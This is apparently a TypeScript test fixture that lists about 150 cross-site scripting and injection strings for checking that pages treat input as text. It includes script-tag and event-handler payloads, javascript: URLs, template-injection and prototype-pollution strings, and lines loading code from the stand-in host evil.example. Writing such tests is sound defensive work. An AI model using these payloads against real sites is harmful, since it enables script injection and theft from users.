// What attackers have tried to make browsers run. Each can be noticed: it sets a mark on the window or opens a dialog.
const run = 'window.__ran=1';

const scripts = [
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script >${run}</script >`,
  `<script/x>${run}</script>`,
  `<script\t>${run}</script>`,
  `<script\n>${run}</script>`,
  `<scr<script>ipt>${run}</script>`,
  `<script src=data:,${run}></script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script type=module>${run}</script>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href=data:,${run} />`,
  `<math><script>${run}</script>`,
  `<noscript><script>${run}</script></noscript>`,
  `<template><script>${run}</script></template>`,
  `<!--><script>${run}</script>-->`,
  `<!--#exec cmd="x"--><script>${run}</script>`,
  `<script>/*${run}`,
  `<base href=//evil.example/><script src=x.js></script>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>">`,
];

const handlers = [
  ['img src=x', 'onerror'],
  ['img src=/favicon.svg', 'onload'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['video><source', 'onerror'],
  ['marquee', 'onstart'],
  ['style', 'onload'],
  ['link rel=stylesheet href=/x.css', 'onerror'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onload'],
  ['iframe src=about:blank', 'onload'],
  ['form', 'onfocusin'],
  ['div contenteditable autofocus', 'onfocus'],
  ['a href=# autofocus', 'onfocus'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><set attributeName=x dur=1s', 'onbegin'],
  ['math href=x', 'onclick'],
  ['x style="animation-name:x"', 'onanimationstart'],
  ['button popovertarget=p autofocus', 'onfocus'],
] as const;
const shapes = [
  (tag: string, event: string) => `<${tag} ${event}=${run}>`,
  (tag: string, event: string) => `"><${tag} ${event}="${run}">`,
  (tag: string, event: string) => `'><${tag.replaceAll(' ', '/')}/${event.toUpperCase()}='${run}'>`,
];

const endings = [
  '</script>',
  '</title>',
  '</style>',
  '</textarea>',
  '</template>',
  '</noscript>',
  '-->',
  ']]>',
  '*/',
  '\\u003c/script\\u003e',
  '</ script>',
  '</scr\0ipt>',
].map((ending) => `${ending}<img src=x onerror=${run}>`);

const quotes = [
  `" onmouseover="${run}" autofocus onfocus="${run}`,
  `' onmouseover='${run}' autofocus onfocus='${run}`,
  `\` onmouseover=\`${run}\``,
  `";${run};//`,
  `';${run};//`,
  `\\";${run};//`,
  `\\';${run};//`,
  `\${${run}}`,
  `{{constructor.constructor('${run}')()}}`,
  `#{${run}}`,
  `<%= ${run} %>`,
  `{"__proto__":{"isAdmin":true}}`,
  `__proto__`,
  `constructor`,
  `]};${run};var a={b:[`,
  `\u2028${run}\u2029`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `＜script＞${run}＜/script＞`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
];

const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `java\tscript:${run}`,
  `javascript&colon;${run}`,
  `&#106;avascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD4x`,
  `vbscript:msgbox(1)`,
  `//evil.example/x`,
  `[x](javascript:${run})`,
  `<a href="javascript:${run}">x</a>`,
  `<form action="javascript:${run}"><button>x`,
  `<button formaction=javascript:${run}>x`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
];

const styles = [
  `<style>@import '//evil.example/x.css';</style>`,
  `<style>*{background:url(//evil.example/x)}</style>`,
  `<div style="position:fixed;inset:0;background:red">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `}*{background:url("javascript:${run}")}`,
  `<img src="//evil.example/x.png">`,
  `<plaintext>`,
];

/** A hundred and fifty texts that no page may take for anything but text. */
export const hostileTexts: readonly string[] = [
  ...scripts,
  ...handlers.flatMap(([tag, event]) => shapes.map((shape) => shape(tag, event))),
  ...endings,
  ...quotes,
  ...addresses,
  ...styles,
];

/** The texts joined into as few as a field of `limit` characters allows; none is cut. */
export function joinedTexts(limit: number, texts: readonly string[] = hostileTexts): string[] {
  const joined: string[] = [];
  for (const text of texts) {
    const last = joined.at(-1);
    if (last !== undefined && last.length + 1 + text.length <= limit)
      joined[joined.length - 1] = `${last} ${text}`;
    else joined.push(text);
  }
  return joined;
}
